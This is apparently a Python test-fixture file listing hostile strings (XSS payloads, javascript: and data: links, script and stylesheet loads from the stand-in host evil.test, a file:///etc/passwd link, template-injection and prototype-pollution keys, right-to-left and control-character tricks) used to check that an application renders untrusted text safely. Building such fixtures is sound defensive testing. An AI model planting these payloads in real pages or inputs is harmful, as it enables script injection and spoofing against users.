"""Texts that would run, frame, hide or turn something round where text is taken for HTML, for a link, or as it is.

Each kind is there once, not each spelling of it. All call ``alert``, which the browser of a test reports.
"""

from __future__ import annotations

ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.test/x.css';</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.test/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<x onclick=alert(1) style=position:fixed;inset:0>x",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
    "__proto__",
    "constructor",
]  # fmt: skip

LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt://x.test/%0aalert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "file:///etc/passwd",
    "blob:http://x.test/1",
    "https://x.test/\"onmouseover=\"alert(1)",
    "https://x.test/'><img src=x onerror=alert(1)>",
    "https://x.test@evil.test/",
    "https://\u202emoc.tset@x.test/",
    "https://x.test/`alert(1)`",
    "http://[::1",
    "mailto:a@b.test?subject=<script>alert(1)</script>",
]  # fmt: skip

TURNED = [
    "\u202egnp.exe",  # what follows is read from right to left
    "\u2066\u2067\u2068 left open",
    "\u200b\u200c\u200d\u2060\ufeffzero\u00adwide",
    "\x1b[2J\x1b[31mred\x07\x08",
    "\x00\x7f\x85\x9b control",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>\u05e2\u05d1\u05e8\u05d9\u05ea</b>",
    "Z\u0351\u0363\u0364" + "\u0301" * 40,
    "\U000e0041\U000e0042 tags \ufe0f\u180e",
    "\ufffd\ufffe\U0010ffff",
    "\u2028line\u2029paragraph",
]  # fmt: skip

TEXTS = ELEMENTS + LINKS + TURNED

# What may be a name of a person or a room: no spaces in it, and 32 characters at the most.
NAMES = [
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    "\"><img/src/onerror=alert(1)>",
    "'onclick='alert(1)",
    "javascript:alert(1)",
    "&lt;img/src&gt;",
    "__proto__",
    "constructor",
]  # fmt: skip
